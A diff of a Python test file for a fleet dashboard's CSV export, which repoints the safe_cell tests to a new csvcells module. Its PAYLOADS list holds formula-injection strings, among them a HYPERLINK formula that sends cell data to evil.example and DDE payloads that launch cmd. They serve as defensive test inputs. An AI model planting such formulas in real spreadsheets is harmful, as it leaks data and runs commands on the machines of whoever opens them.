@@ -6,6 +6,7 @@ import csv
 import io
 
 from fleet_dashboard.accounts.permissions import SYSTEM
+from fleet_dashboard.core import csvcells
 from fleet_dashboard.messaging import export, messages, templates
 
 PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
@@ -62,11 +63,11 @@ def test_export_pages_through_filters_and_stops_at_the_cap(db, make_org):
 
 
 def test_safe_cell_values():
-    assert export.safe_cell(None) == ""
-    assert export.safe_cell("-12.5") == "-12.5"
-    assert export.safe_cell("+201001234567") == "+201001234567"
-    assert export.safe_cell("+20 100 123") == "'+20 100 123"
-    assert export.safe_cell("مرحبا =1+1") == "مرحبا =1+1"
+    assert csvcells.safe_cell(None) == ""
+    assert csvcells.safe_cell("-12.5") == "-12.5"
+    assert csvcells.safe_cell("+201001234567") == "+201001234567"
+    assert csvcells.safe_cell("+20 100 123") == "'+20 100 123"
+    assert csvcells.safe_cell("مرحبا =1+1") == "مرحبا =1+1"
 
 
 def test_export_times_are_in_the_organisations_zone(db, make_org):
